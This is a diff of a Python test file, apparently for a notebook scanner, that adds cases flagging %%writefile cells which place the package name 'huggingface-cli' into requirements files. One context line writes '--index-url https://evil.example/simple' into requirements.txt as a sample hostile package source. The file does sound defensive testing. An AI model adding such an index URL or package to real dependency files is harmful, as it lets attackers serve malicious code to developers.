@@ -152,6 +152,9 @@ def test_the_import_a_python_kernel_runs_is_found(
         (["%run -m fakepkg_zz"], "HC001"),
         (["%%writefile requirements.txt\nrequests\nhuggingface-cli"], "HC031"),
         (["%%writefile -a 'requirements-dev.txt'\nhuggingface-cli"], "HC031"),
+        (["%%writefile -a requirements.txt\nhuggingface-cli"], "HC031"),  # appends: pip reads it whole
+        (["\n%%writefile requirements/base.txt\nhuggingface-cli"], "HC031"),  # IPython drops the blank line
+        (["%%writefile r.txt\nhuggingface-cli", "%pip install -r ./r.txt"], "HC031"),  # installed from: requirements
         (["%%file setup.sh\npip install huggingface-cli"], "HC031"),
         (["%%writefile requirements.txt\n--index-url https://evil.example/simple\nrequests"], "HC040"),
         (["%%writefile pyproject.toml\n[project]\ndependencies = ['x']"], "HC042"),
@@ -168,6 +171,7 @@ def test_magics_that_run_shell_install_or_import(repo: Repo, run: Any, cells: li
     [
         ["%load_ext autoreload\n%autoreload 2"],  # IPython's own extension
         ["%%writefile notes.txt\nhuggingface-cli"],  # not a file anything installs from
+        ["%%writefile notes.txt\nhuggingface-cli", "%pip install -r other.txt"],
         ["%%writefile requirements.txt\nrequests"],  # a popular name
         ["pip = 3"], ["run(1)"], ["%alias p pip\nprint(1)"],
     ],
